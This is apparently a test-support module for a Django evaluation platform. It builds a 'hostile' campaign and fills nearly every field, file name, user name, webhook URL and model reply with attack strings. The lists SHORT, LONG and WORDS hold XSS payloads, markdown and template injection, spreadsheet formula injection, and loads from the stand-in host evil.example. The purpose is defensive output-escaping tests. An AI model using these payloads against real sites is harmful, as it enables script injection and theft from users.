"""A campaign whose every field holds an attack, and where its pages are.

What an attack does is seen in three ways: it sets window.__xss, it asks for something at evil.example, or it
leaves an element or an attribute of its own that holds the word evil.
"""

from __future__ import annotations

import csv
import io
import itertools
import json
from collections.abc import Iterator
from datetime import date
from io import BytesIO
from uuid import uuid4

from django.contrib.auth.tokens import default_token_generator
from django.contrib.contenttypes.models import ContentType
from django.db.models.functions import Length
from django.urls import NoReverseMatch, reverse
from django.utils import timezone
from django.utils.http import urlsafe_base64_encode

from accounts.mail import MailKind, switch_off_link
from accounts.models import User
from accounts.services import create_token
from assess.active_learning.services.collections import load_collection
from assess.answers.services import AnswerRunDetails, submit_answer_run
from assess.battle_programs.prompt import DEFAULT
from assess.battle_programs.queries.requests import orders_of
from assess.battle_programs.services import PlannedProgram, create_program, load_results
from assess.clicks.services.withdrawals import describe_click_log, withdraw_click_log
from assess.gradings.criteria import PlannedCriterion
from assess.judge_runs.services import JudgeRunDetails, submit_judge_run
from assess.machines.services.labellings import LabellingDetails, create_labelling
from assess.machines.services.prompts import PromptDetails, create_prompt
from assess.matching_programs.prompt import DEFAULT as MATCHING_PROMPT
from assess.matching_programs.queries.requests import requests_of
from assess.matching_programs.services import PlannedProgram as PlannedMatchingProgram
from assess.matching_programs.services import create_program as create_matching_program
from assess.matching_programs.services import load_results as load_matching_results
from assess.models import (
    Adjudication,
    AdjudicationEvent,
    Answer,
    AnswerMark,
    BankNugget,
    BattleProgramVote,
    DuplicateClass,
    GradingTask,
    JudgmentEvent,
    MagnitudeTask,
    MatchingTask,
    NuggetLoad,
    OwnTerms,
    PreferencePair,
    Probe,
    ProgramNuggetLabel,
    PyramidDraft,
    QueueEntry,
    ReleaseFile,
    SearchedDocument,
    SnippetTask,
    Source,
    SupportTask,
    TopicNote,
)
from assess.nuggets.banks import TWO_GRADES
from assess.nuggets.services.banks import begin_draft, freeze_bank
from assess.nuggets.services.loads import load_banks
from assess.nuggets.services.nuggets import NuggetDetails, change_nugget, vote_on_importance
from assess.panels.services import create_panel
from assess.preferences.queries.plan import PlannedPreferences
from assess.preferences.services import SubmittedPreference, create_preferences, record_preference
from assess.pyramids.drafts.units import joined_text, split_summaries
from assess.pyramids.files import write_pan, write_pyr
from assess.pyramids.model import Part, Pyramid, Unit, annotate, contributor_of, in_attribute
from assess.pyramids.services import GivenFile, store_peers, store_pyramid, withdraw_peer
from assess.release.plan import ReleasePlan
from assess.services.assignments import assign
from assess.services.imports import MachineDetails, load_judgments, load_machine_labels
from assess.services.releases import release_qrels
from assess.services.sources import withdraw_source
from assess.snippets.services import load_snippets
from assess.support.services import Mark
from metrics.ab_tests.services import PlannedTest, create_ab_test, load_users
from metrics.answer_releases.services import release_answers
from metrics.battles.services import release_battles
from metrics.interleaving.queries import lists_of
from metrics.interleaving.services import describe_clicks, load_clicks, withdraw_clicks
from metrics.models import InterleavingClicks, SystemFigures
from metrics.system_quality.services import load_figures
from pooling.formats.documents.reading import read_documents
from pooling.formats.images import Owner, path_of
from pooling.manifest import PoolPlan
from pooling.models import Campaign, Role, Topic, TopicRevision
from pooling.scale import Grade
from pooling.services.documents import document_reader, import_documents
from pooling.services.images import import_images
from pooling.services.people import add_member, create_campaign, invite
from pooling.services.pools import freeze_pool
from pooling.services.runs import Submission, submit_run
from pooling.services.topics import load_topics
from tests.assess.answers.files import answer_file
from tests.support.factory import Factory
from tests.support.images import png, zipped
from tests.support.places import URLS

SHORT = [  # fit everywhere but into the names below
    "<script>__xss=1</script>",
    '"><script>__xss=1</script>',
    "</title><script>__xss=1</script>",
    "</textarea><script>__xss=1</script>",
    "</script><script>__xss=1</script>",
    "--><script>__xss=1</script>",
    "<ScRiPt\n>__xss=1</sCrIpT >",
    "<script src=//evil.example></script>",
    "<img src=x onerror=__xss=1>",
    "<img/src='evil'/onerror=__xss=1>",
    "<svg onload=__xss=1>",
    "<svg><animate onbegin=__xss=1 dur=1s>",
    "<body onload=__xss=1>",
    "<details open ontoggle=__xss=1>evil",
    "<input autofocus onfocus=__xss=1>",
    '" autofocus onfocus="__xss=1" x="',
    "' onmouseover='__xss=1' x='",
    "` onmouseover=__xss=1 `",
    "<a href=javascript:__xss=1>evil</a>",
    "<a href=' java\tscript:__xss=1'>evil</a>",
    "<a href=&#106avascript:__xss=1>evil</a>",
    "<a href=data:text/html,evil>evil</a>",
    "<iframe src=javascript:__xss=1></iframe>",
    "<object data=//evil.example></object>",
    "<embed src=//evil.example>",
    "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>@import'//evil.example'</style>",
    "<p style=background:url(//evil.example)>",
    "<form action=//evil.example><button>evil</button>",
    "<div hx-get=/evil hx-trigger=load>evil</div>",
    "<div data-hx-post=/evil data-hx-trigger=load>",
    "<div hx-on::load=__xss=1>evil</div>",
    "<math><mtext><img src onerror=__xss=1>",
    "javascript:__xss=1//evil",
    "[evil](javascript:__xss=1)",
    "[evil](java&Tab;script:__xss=1)",
    "![evil](//evil.example/i.png)",
    "{{ 7|add:7 }}{% load evil %}${7*7}",
    "\u202eevil\u2066 \ufeff<script>__xss=1</script>",
    "\uff1cscript\uff1e__xss=1\uff1c/script\uff1e",
    "<\u017fcript>__xss=1</\u017fcript>",
    "\u2028<script>__xss=1</script>\u2029",
    "&lt;script&gt;__xss=1&lt;/script&gt;",
    "&amp;lt;img src=x onerror=__xss=1&amp;gt;",
    "=HYPERLINK(evil)",
    "+1+evil()",
    "-2+evil()",
    "@SUM(evil())",
    "a;=1+evil()",
]
LONG = [
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<svg><use href='data:image/svg+xml,<svg id=evil><script>parent.__xss=1</script></svg>#evil'></svg>",
    "<iframe srcdoc='<script>parent.__xss=1</script>'></iframe>",
    "<template shadowrootmode=open><script>__xss=1</script></template>",
    "<math><mtext></form><form><mglyph><style></math><img src=evil onerror=__xss=1>",
    "<noscript><p title='</noscript><img src=evil onerror=__xss=1>'></noscript>",
    "<video><source src=//evil.example onerror=__xss=1></video><audio src=//evil.example autoplay>",
    "<button formaction=javascript:__xss=1 hx-delete=/evil hx-swap=outerHTML>evil</button>",
    "[evil][e]\n\n[e]: data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9MTwvc2NyaXB0Pg==",
    "<img srcset='https://evil.example/a 1x' src=https://evil.example/b loading=eager>",
]
WORDS = [  # for what may hold neither a blank nor a slash: topic numbers, tags, docnos, sign-in names
    "<script>__xss=1<script>",
    '"onmouseover="__xss=1"evil',
    "'onfocus='__xss=1'autofocus='evil",
    "<img\u200bonerror=__xss=1>evil",
    "javascript:__xss=1",
    "&lt;script&gt;evil",
    "%3Cscript%3E__xss=1",
    "\u202eevil",
    "evil?evil=1&x#evil",
    "{{7|add:7}}{%evil%}",
    "=1+evil()",
    "@evil()",
    "-1+evil()",
    "+1+evil()",
]
BY_TOPIC = {  # addresses of the API with the number of a topic
    "api:topic",
    "api:topic_change",
    "api:topic_remove",
    "api:next_document_list",
    "api:document_take",
    "api:review_state",
    "api:review_documents",
    "api:review_batch",
    "api:review_sample",
    "api:review_stop",
    "api:review_discard",
}
ALL = "\n\n".join([*SHORT, *LONG])
GRADES = tuple(Grade(n, SHORT[n * 2], SHORT[n * 2 + 1], n, SHORT[n * 2 + 1]) for n in range(10))


def hostile_campaign(make: Factory) -> Campaign:
    """carol organises it; alice and bob judge it, under names that attack; sam administers the site."""
    carol = make.make_user("carol")
    make.make_administrator("sam")
    make.let_create_campaigns("carol")
    for nth, name in enumerate(SHORT[:6]):
        create_campaign(carol, name, f"hostile-{nth}", GRADES, 1)
    campaign = create_campaign(
        carol, SHORT[1], "hostile", GRADES, 1,
        state=Campaign.State.OPEN, description=ALL, guidelines=ALL, rules=ALL, licence=SHORT[2],
        contact=SHORT[3], shows_topic_statistics=True, home_page="https://evil.example/?<script>__xss=1</script>",
    )  # fmt: skip
    bring_in_people(campaign, make)
    lines = [
        {"number": w, "title": t, "description": ALL, "narrative": ALL}
        for w, t in zip(WORDS, SHORT, strict=False)
    ]
    load_topics(campaign, as_json_lines(lines), "evil.jsonl")
    submit_runs(campaign, carol)
    freeze_pool(campaign, carol, list(campaign.runs.all())[::2], PoolPlan("depth", {"k": 2}))
    load_documents(campaign)
    judge_all(campaign, make)
    load_labels(campaign)
    submit_judge_runs(campaign, carol)
    submit_answer_runs(campaign, carol)
    ask_a_model(campaign)
    release_qrels(campaign, carol)
    make.make_audit(campaign)
    settle_some(campaign)
    judge_all(campaign, make, worst=9)
    find_copies(campaign, make)
    release_qrels(campaign, carol, ReleasePlan(propagated=True))  # so that there is a difference to show
    invite(campaign, Role.PARTICIPANT, SHORT[1], recipient=SHORT[1])
    first, second = campaign.runs.all()[:2]
    panel = create_panel(campaign, carol, (first, second), 5, campaign.topics.all(), seed=7)
    interleaving = make.make_interleaving(campaign, first.tag, second.tag)
    shown = lists_of(interleaving)[0].list_id
    load_clicks(interleaving, carol, f"list_id,clicks\n{shown},1\n".encode(), SHORT[1])
    run_ab_test(campaign, carol)
    figures = [
        {"run": run.tag, "latency_ms": nth + 1, "cost": 1, "currency": "EUR", "hardware": attack}
        for nth, (run, attack) in enumerate(zip(campaign.runs.active(), SHORT, strict=False))
    ]
    load_figures(campaign, carol, json.dumps(figures).encode(), SHORT[2])
    SystemFigures.objects.filter(run=first).update(figures={}, problem=ALL)
    runs = list(campaign.answer_runs.all())
    battles = make.make_battles(campaign, ("alice", "bob"), runs=runs, better=ALL, per_topic=2)
    for battle in battles.battles.filter(judge__username="bob"):
        make.make_battle_vote(battle, "left", ALL)
    release_battles(battles, make.make_user("carol"))
    asked = PlannedProgram(battles, SHORT[1], SHORT[2], DEFAULT + ALL.replace("{", "("))
    program = create_program(campaign, carol, asked)
    key = next(iter(orders_of(program)))
    body = {"choices": [{"message": {"content": ALL}, "finish_reason": "stop"}]}
    result = {"custom_id": key, "response": {"status_code": 200, "body": body}}
    load_results(program, carol, json.dumps(result).encode(), SHORT[3])
    BattleProgramVote.objects.update(problem=SHORT[4])
    people = [make.make_user(name) for name in ("alice", "bob")]
    last = campaign.releases.order_by("-number")[0]
    plan = PlannedPreferences(last, people, list(campaign.topics.all()), 2, 100, 7, ALL)
    pairs = PreferencePair.objects.filter(task__preference_set=create_preferences(campaign, carol, plan))
    for pair in pairs.filter(task__judge=people[1]).select_related("task__judge", "task__preference_set"):
        record_preference(pair, people[1], SubmittedPreference(uuid4(), "left", ALL))
    load_snippets(
        campaign.runs.active()[0],
        carol,
        f"docno\tsnippet\nD1\t{SHORT[0]}\n{WORDS[0]}\tA boat.\n".encode(),
        SHORT[0],
    )
    for graded in make.make_snippets(campaign, instructions=ALL).tasks.filter(judge=people[1]):
        make.make_snippet_grade(graded, 1, reason=ALL)
    for numbered in make.make_magnitudes(campaign, instructions=ALL).tasks.filter(judge=people[1]):
        make.make_magnitude(numbered, "1/3", reason=ALL)
    criteria = [PlannedCriterion(SHORT[place], SHORT) for place in range(2)]
    grading = make.make_grading(campaign, runs=runs, criteria=criteria, instructions=ALL)
    for task in grading.tasks.filter(judge__username="bob"):
        make.make_grades(task, [0, 1], ALL)
    store_pyramids(campaign)
    write_nuggets(campaign, carol)
    nuggets = [(f"{place} {ALL}", "vital") for place in range(2)]
    make.make_bank(campaign, {topic.number: nuggets for topic in campaign.topics.all()})
    for checked in make.make_support(campaign, runs=runs, instructions=ALL).tasks.filter(judge=people[1]):
        marks = [Mark(ALL[:500], ALL[:500])]
        make.make_support_label(checked, "partial", reason=ALL, marks=marks)
    for matched in make.make_matching(campaign, runs=runs, instructions=ALL).tasks.filter(judge=people[1]):
        make.make_nugget_label(matched, 1, "support", 1)
    match_by_program(campaign, carol)
    release_answers(campaign.matchings.get(), carol)
    review_topics(campaign, make)
    make.make_vote(panel, "bob", panel.topics.all()[0].number, "left", ALL)
    for attack in SHORT:  # a file's name, and what is said of it
        make.make_job(campaign, attack, message=attack)
    for scope, name in zip(["read", "submit", "all"] * 20, SHORT, strict=False):
        create_token(carol, name, scope)
    make.publish(campaign)
    withdraw_things(campaign, carol)
    return campaign


def withdraw_things(campaign: Campaign, user: User) -> None:
    """A reworded topic, a withdrawn run and a withdrawn release, each with texts that attack."""
    now = timezone.now()
    texts = {"title": SHORT[4], "description": ALL, "narrative": ALL}
    TopicRevision.objects.create(topic=campaign.topics.all()[0], replaced_by=user, **texts)
    run = campaign.runs.filter(pools=None).latest("pk")
    campaign.runs.filter(pk=run.pk).update(
        withdrawn_at=now, withdrawn_by=user, withdrawal_reason=ALL, former_tag=WORDS[0]
    )
    first = campaign.releases.filter(number=1)
    first.update(withdrawn_at=now, withdrawn_by=user, withdrawal_reason=ALL)
    log, clicks = campaign.click_logs.get(), InterleavingClicks.objects.get()
    describe_click_log(log, user, name=SHORT[3], note=ALL)
    withdraw_click_log(log, user, ALL)
    describe_clicks(clicks, user, name=SHORT[3], note=ALL)
    withdraw_clicks(clicks, user, ALL)
    withdraw_source(campaign.sources.get(load__name="evil.qrels", kind=Source.Kind.ELSEWHERE), user, ALL)
    invitation = campaign.invitations.all()[:1]
    campaign.invitations.filter(pk__in=[each.pk for each in invitation]).update(email="evil@evil.example")


def as_json_lines(rows: list[dict[str, str]]) -> bytes:
    return "".join(json.dumps(row) + "\n" for row in rows).encode()


def bring_in_people(campaign: Campaign, make: Factory) -> None:
    for nth, name in enumerate(SHORT):
        person = User.objects.create_user(
            f"{WORDS[nth % len(WORDS)]}{nth}", f"evil{nth}@evil.example", name=name
        )
        add_member(campaign, person, [Role.JUDGE, Role.PARTICIPANT, Role.READER][nth % 3], name[:60])
    for name, shown in (("carol", SHORT[1]), ("alice", SHORT[8]), ("bob", SHORT[15])):
        User.objects.filter(pk=make.make_user(name).pk).update(name=shown, email="evil@evil.example")
    for name in ("alice", "bob"):
        add_member(campaign, make.make_user(name), Role.JUDGE)


def submit_runs(campaign: Campaign, user: User) -> None:
    """A run for every short attack, as its group and its file's name; warnings quote both."""
    for nth, attack in enumerate(SHORT):
        tag = f"{WORDS[nth % len(WORDS)]}{nth}"
        lines = [
            f"{topic} Q0 {docno} {rank} {-rank if nth % 2 else 1} {tag}\n"
            for topic in WORDS
            for rank, docno in enumerate((WORDS[nth % len(WORDS)], "D", f"D{nth}"), 1)
        ]
        about = Submission(tag, attack[:60], "", 1, ALL)
        submit_run(campaign, user, "".join(lines).encode(), f"{attack}.run", about)


def submit_judge_runs(campaign: Campaign, user: User) -> None:
    """A run of a machine judge for every word; warnings quote a document in no pool."""
    for tag, attack in zip(WORDS, SHORT, strict=False):
        lines = "".join(f"{topic} Q0 {docno} 1 0.5 {tag}\n" for topic in WORDS for docno in ("D", WORDS[0]))
        about = JudgeRunDetails(attack[:60], "manual", attack, ALL)
        submit_judge_run(campaign, user, lines.encode(), f"{attack}.txt", about)


def run_ab_test(campaign: Campaign, carol: User) -> None:
    """An A/B test whose variants, outcome and file have names that attack."""
    variants = [SHORT[1][:60], SHORT[2][:60]]
    plan = PlannedTest(SHORT[3][:120], ALL[:2000], dict.fromkeys(variants, 1.0), 2, "clicks")
    test = create_ab_test(campaign, carol, plan)
    rows = [{"variant": name, "user": name, "clicks": place} for place, name in enumerate(variants)]
    load_users(test, carol, "\n".join(map(json.dumps, rows)).encode(), SHORT[4])


def match_by_program(campaign: Campaign, carol: User) -> None:
    """A program for the matching, with a reply that attacks and is no label."""
    matching = campaign.matchings.get()
    asked = PlannedMatchingProgram(matching, SHORT[1], SHORT[2], MATCHING_PROMPT + ALL.replace("{", "("))
    program = create_matching_program(campaign, carol, asked)
    key = next(iter(requests_of(program)))
    body = {"choices": [{"message": {"content": ALL}, "finish_reason": "stop"}]}
    result = {"custom_id": key, "response": {"status_code": 200, "body": body}}
    load_matching_results(program, carol, json.dumps(result).encode(), SHORT[3])
    ProgramNuggetLabel.objects.update(problem=SHORT[4])


def review_topics(campaign: Campaign, make: Factory) -> None:
    """A collection whose name and texts attack, and reviews of all topics over it."""
    texts = [{"docno": f"R{place}", "title": text, "text": ALL} for place, text in enumerate(SHORT)]
    content = "\n".join(map(json.dumps, texts)).encode()
    load_collection(campaign, make.make_user("carol"), read_documents(content), SHORT[1])
    for topic in campaign.topics.all():
        review = make.make_review(campaign, topic.number)
        SearchedDocument.objects.create(
            document=review.documents.all()[0], judge=make.make_user("alice"), words=SHORT[2]
        )


def store_pyramids(campaign: Campaign) -> None:
    """A pyramid and two peers whose texts, labels and names attack."""
    carol, text = User.objects.get(username="carol"), "\n".join(SHORT)
    parts = [Part(text.index(attack), text.index(attack) + len(attack)) for attack in SHORT]
    own = [contributor_of(text, [part]) for part in parts]
    units = tuple(Unit(uid, in_attribute(SHORT[uid - 1]), (each,)) for uid, each in enumerate(own, 1))
    pyramid, topic = Pyramid(text, units), campaign.topics.all()[0]
    stored = store_pyramid(campaign, carol, topic, GivenFile(SHORT[1], write_pyr(pyramid)))
    content = write_pan(annotate(pyramid, text, {uid: [each] for uid, each in enumerate(own)}))
    store_peers(stored, carol, [GivenFile(word, content) for word in WORDS[:2]])
    withdraw_peer(stored.peers.all()[1], carol)
    text = joined_text(split_summaries("\n---\n".join(SHORT)))
    marked = [
        [place, in_attribute(attack), [[text.index(attack), text.index(attack) + len(attack)]]]
        for place, attack in enumerate(SHORT, 1)
        if attack in text
    ]
    PyramidDraft.objects.create(
        campaign=campaign, topic=campaign.topics.all()[1], text=text, units=marked, made_by=carol
    )


def find_copies(campaign: Campaign, make: Factory) -> None:
    """A document that nobody judged gets the labels of one that both judges did."""
    topic = campaign.topics.all()[0]
    docnos = list(topic.pooled.values_list("docno", flat=True))
    make.make_near_duplicates(campaign, topic.number, (docnos[0], docnos[3]))


def submit_answer_runs(campaign: Campaign, user: User) -> None:
    """An answer run for every word: sentences, headings, docnos and metadata attack."""
    for tag, attack in zip(WORDS, SHORT, strict=False):
        sentences = [(f"# {attack}\n\n{ALL}", [WORDS[0], "D"]), (f"# {attack}", []), (attack, ["D"])]
        answers = dict.fromkeys(WORDS, sentences)
        content = answer_file(answers, "rag-2026", tag=tag, group=attack[:60])
        about = AnswerRunDetails(attack[:60], "manual", ALL)
        submit_answer_run(campaign, user, content, f"{attack}.jsonl", about)


def load_documents(campaign: Campaign) -> None:
    docnos = campaign.pools.get().documents.order_by("docno").values_list("docno", flat=True).distinct()
    rows = [
        {"docno": docno, "title": title, "text": ALL, "url": f"javascript:__xss=1//{title}"}
        for docno, title in zip(docnos, itertools.cycle(SHORT), strict=False)
    ]
    rows[0]["text"] = ALL * 100  # so long that no screen shows it at once
    content = as_json_lines(rows)
    import_documents(campaign, lambda: document_reader(BytesIO(content), "evil.jsonl"))
    names = [attack for attack in SHORT if "/" not in attack and attack.isprintable()]
    owners = [*(Owner("documents", docno) for docno in docnos), *(Owner("topics", topic) for topic in WORDS)]
    paths = [path_of(owner, f"{name}.png") for owner, name in zip(owners, itertools.cycle(names))]
    import_images(campaign, zipped(dict.fromkeys(paths, png())), "evil.zip")


def judge_all(campaign: Campaign, make: Factory, worst: int = 0) -> None:
    """alice and bob judge each topic's first documents and leave the rest."""
    judges = ["alice", "bob"]
    assign([make.make_user(name) for name in judges], campaign.topics.all())
    for topic in campaign.topics.all():
        for pooled, judge in itertools.product(topic.pooled.all()[:3], judges):
            make.make_judgment(
                campaign, judge, topic.number, pooled.docno, max(worst, (pooled.pk + len(judge)) % 10)
            )
    JudgmentEvent.objects.update(comment=ALL)
    QueueEntry.objects.filter(judge__username="alice").update(remark=ALL)
    alice = User.objects.get(username="alice")
    first = campaign.topics.order_by("pk")[0]
    Topic.objects.filter(pk=first.pk).update(terms=ALL)
    OwnTerms.objects.update_or_create(judge=alice, topic=first, defaults={"terms": [ALL]})
    TopicNote.objects.update_or_create(judge=alice, topic=first, defaults={"text": ALL})
    about = {"problem": ALL[:300], "created_by": User.objects.get(username="carol")}
    campaign.webhooks.get_or_create(url="https://evil.example/?<script>__xss=1</script>", defaults=about)


def load_labels(campaign: Campaign) -> None:
    """Labels that were made elsewhere, by somebody and by a machine."""
    carol = User.objects.get(username="carol")
    lines = "".join(f"{topic.number} 0 D 1\n" for topic in campaign.topics.all()).encode()
    load_judgments(campaign, carol, lines, "evil.qrels", SHORT[2], {}, extend_pool=True)
    machine = MachineDetails(SHORT[1], SHORT[3], "ab" * 32, date(2026, 5, 4), ALL)
    withdraw_source(load_machine_labels(campaign, carol, lines, "evil.qrels", machine), carol, ALL)
    load_machine_labels(campaign, carol, lines, "evil.qrels", machine)
    lists = io.StringIO()
    rows = csv.writer(lists)
    rows.writerow(["topic", "session", "shown", "clicks"])
    rows.writerows([topic.number, user, "D", "1"] for topic in campaign.topics.all() for user in "ab")
    Factory().make_click_log(campaign, lists.getvalue(), SHORT[1])


def write_nuggets(campaign: Campaign, carol: User) -> None:
    """A frozen nugget bank and a draft that differs, with hostile words in every part."""
    draft = begin_draft(campaign, carol, TWO_GRADES)
    rows = []
    for topic in campaign.topics.all():
        creator = [{"is_human": False, "llm_model": SHORT[3]}, {"is_human": True, "assessor_id": SHORT[4]}]
        references = [{"doc_id": WORDS[0], "text": ALL}]
        nuggets = [
            {"text": attack, "importance": "okay", "creator": creator, "references": references}
            for attack in SHORT[:5]
        ]
        rows.append({"qid": topic.number, "nuggets": nuggets})
    load_banks(draft, carol, "\n".join(map(json.dumps, rows)).encode(), "evil.jsonl")
    freeze_bank(draft, carol)
    copy = begin_draft(campaign, carol, TWO_GRADES, draft)
    load_banks(copy, carol, "\n".join(map(json.dumps, rows)).encode(), f"{SHORT[5]}.jsonl")
    for nugget in list(copy.nuggets.all())[::2]:
        change_nugget(nugget, carol, NuggetDetails(SHORT[6][:60], "vital", SHORT[7:9]))
        vote_on_importance(nugget, carol, "okay")
    alice = User.objects.get(username="alice")
    for answer in Answer.objects.filter(run__campaign=campaign).select_related("topic"):
        nugget = copy.nuggets.filter(topic=answer.topic).order_by("-place")[0]
        BankNugget.objects.filter(pk=nugget.pk).update(author=alice, is_suggestion=False)
        for place, sentence in enumerate(answer.stored_sentences, start=1):
            text = sentence.text
            about = {"sentence": place, "start": 0, "end": len(text), "text": text}
            AnswerMark.objects.create(nugget=nugget, answer=answer, author=alice, **about)


def ask_a_model(campaign: Campaign) -> None:
    """A prompt, a labelling, and replies of its model, all of which attack."""
    carol = User.objects.get(username="carol")
    template = "{topic} {document} {scale} {guidelines}" + ALL
    prompt = create_prompt(campaign, carol, PromptDetails(template, ALL, note=SHORT[5]))
    scope = {"topics": [campaign.topics.all()[0].number]}
    labelling = create_labelling(campaign, carol, LabellingDetails(prompt, SHORT[6], SHORT[7], {}, scope))
    labelling.requests.update(
        state="answered", reply=ALL, problem=SHORT[8], finish_reason=SHORT[8], server_model=SHORT[9]
    )


def settle_some(campaign: Campaign) -> None:
    """Settle a document of each topic, and plant one that trains the judges."""
    carol = User.objects.get(username="carol")
    for topic in campaign.topics.all():
        settled, probe = topic.pooled.all()[:2]
        Adjudication.objects.create(pooled=settled, relevance=1, by=carol, why=ALL)
        AdjudicationEvent.objects.create(uuid=uuid4(), pooled=settled, relevance=1, by=carol, why=ALL)
        Probe.objects.create(pooled=probe, kind=Probe.Kind.TRAINING, relevance=1, why=ALL)


def keys_of(name: str, campaign: Campaign) -> list[int]:
    """Return the keys that a place asks for: of documents, the longest first."""
    if name == "assess:nugget_load_withdraw":
        return [*NuggetLoad.objects.filter(bank__frozen_at=None).values_list("pk", flat=True)]
    if name.startswith(("assess:nugget", "assess:own_nugget")):
        return [*BankNugget.objects.order_by("pk").values_list("pk", flat=True)[:3]]
    if "panel" in name:
        return [*campaign.panels.values_list("pk", flat=True)]
    if name in ("assess:battle", "assess:battle_source"):
        return [
            *campaign.battle_sets.get()
            .battles.filter(judge__username="alice")
            .values_list("pk", flat=True)[:3]
        ]
    if "pyramid_draft" in name:
        return [*campaign.pyramid_drafts.values_list("pk", flat=True)]
    if "pyramid" in name:
        return [*campaign.pyramids.get().peers.values_list("pk", flat=True)]
    if name in ("assess:grading", "assess:grading_source"):
        tasks = GradingTask.objects.filter(judge__username="alice")
        return [*tasks.values_list("pk", flat=True)[:3]]
    if name == "assess:support":
        checked = SupportTask.objects.filter(judge__username="alice")
        return [*checked.values_list("pk", flat=True)[:3]]
    if name == "assess:snippet":
        snippets = SnippetTask.objects.filter(judge__username="alice")
        return [*snippets.values_list("pk", flat=True)[:3]]
    if name == "assess:magnitude":
        numbered = MagnitudeTask.objects.filter(judge__username="alice")
        return [*numbered.values_list("pk", flat=True)[:3]]
    if name == "assess:matching":
        matched = MatchingTask.objects.filter(judge__username="alice")
        return [*matched.values_list("pk", flat=True)[:3]]
    if name == "assess:preference":
        pairs = PreferencePair.objects.filter(task__judge__username="alice")
        return [*pairs.values_list("pk", flat=True)[:3]]
    if name == "assess:near_duplicate_class":
        return [*campaign.near_duplicates.classes.values_list("pk", flat=True)]
    if name == "assess:near_copies":
        group = DuplicateClass.objects.get(classification__campaign=campaign)
        entries = QueueEntry.objects.filter(judge__username="alice", pooled=group.representative)
        return [*entries.values_list("pk", flat=True)]
    if "job" in name:
        return [*campaign.jobs.values_list("pk", flat=True)[:3]]
    if "answer_release" in name:
        return [*campaign.answer_releases.values_list("pk", flat=True)]
    if "answer" in name or "cited" in name:
        return [*campaign.answer_runs.values_list("pk", flat=True)[:3]]
    if "judge_run" in name:
        return [*campaign.judge_runs.values_list("pk", flat=True)]
    if "ab_test" in name:
        return [file.pk for test in campaign.ab_tests.all() for file in test.files.all()]
    if "interleaving_clicks" in name:
        return [clicks.pk for each in campaign.interleavings.all() for clicks in each.clicks.all()]
    if "webhook" in name:
        return [*campaign.webhooks.values_list("pk", flat=True)]
    if name.startswith("assess:source"):
        return [*campaign.sources.order_by("pk").values_list("pk", flat=True)]
    if name in ("assess:judge_labels", "assess:judge_replace") or name.endswith("_handover"):
        return [User.objects.get(username="alice").pk]
    longest = campaign.documents.order_by(Length("text").desc()).values_list("docno", flat=True)[0]
    if name in ("assess:judgment_card", "assess:document_part"):
        queue = QueueEntry.objects.filter(judge__username="alice")
        found = dict(queue.values_list("pk", "pooled__docno"))
    else:
        found = dict(campaign.pools.get(number=1).documents.values_list("pk", "docno"))
    return sorted(found, key=lambda key: found[key] != longest)[:13]


def switch_off_token(user: User) -> str:
    return switch_off_link(user, MailKind.DIGEST, "").rstrip("/").rpartition("/")[2]


def places(name: str, campaign: Campaign) -> Iterator[str]:
    """Yield every address of a place, for all that the campaign holds."""
    carol = User.objects.get(username="carol")
    numbered = name.startswith("api:") and name not in BY_TOPIC  # pools and releases
    numbers = [1, 2] if numbered else [*campaign.topics.values_list("number", flat=True), 1, 2]
    runs = campaign.answer_runs if name == "api:answer_list" else campaign.runs
    known: dict[str, list[object]] = {
        "slug": [campaign.slug],
        "tag": list(runs.values_list("tag", flat=True)[:: len(SHORT) // len(WORDS)]),
        "number": [*numbers],
        "pk": [*keys_of(name, campaign)],
        "side": ["left", "right"],
        "rank": [1],
        "place": [1, 3],
        "citation": [1, 2],
        "version": [1],
        "part": [0, 1],
        "uid": [1],
        "sha256": [*campaign.images.values_list("sha256", flat=True).distinct()],
        "state": ["internal", "shared", "public"],
        "topic": [*campaign.topics.values_list("number", flat=True)],
        "kind": [*sorted(set(ReleaseFile.objects.values_list("kind", flat=True)))],
        "token": [
            invite(campaign, Role.PARTICIPANT, SHORT[1]),
            default_token_generator.make_token(carol),
            switch_off_token(carol),
        ],
        "uidb64": [urlsafe_base64_encode(str(carol.pk).encode())],
        "name": ["nDCG", *(session.name for session in carol.sessions.all())],
        "id": [carol.pk],
        "object_id": [campaign.pk, carol.pk],
        "app_label": ["accounts"],
        "content_type_id": [ContentType.objects.get_for_model(User).pk],
        "form": ["csv", "tsv", "jsonl"],
        "rest": ["<script>__xss=1</script>"],
        "username": ["alice"],
        "rule": ["majority"],
    }
    assert set(URLS[name]) <= set(known), f"tell tests/support/hostile.py what {name} may have in its address"
    for values in itertools.product(*(known[part] for part in URLS[name])):
        try:
            yield reverse(name, kwargs=dict(zip(URLS[name], values, strict=True)))
        except NoReverseMatch:  # a topic's number where a release's is asked for
            continue
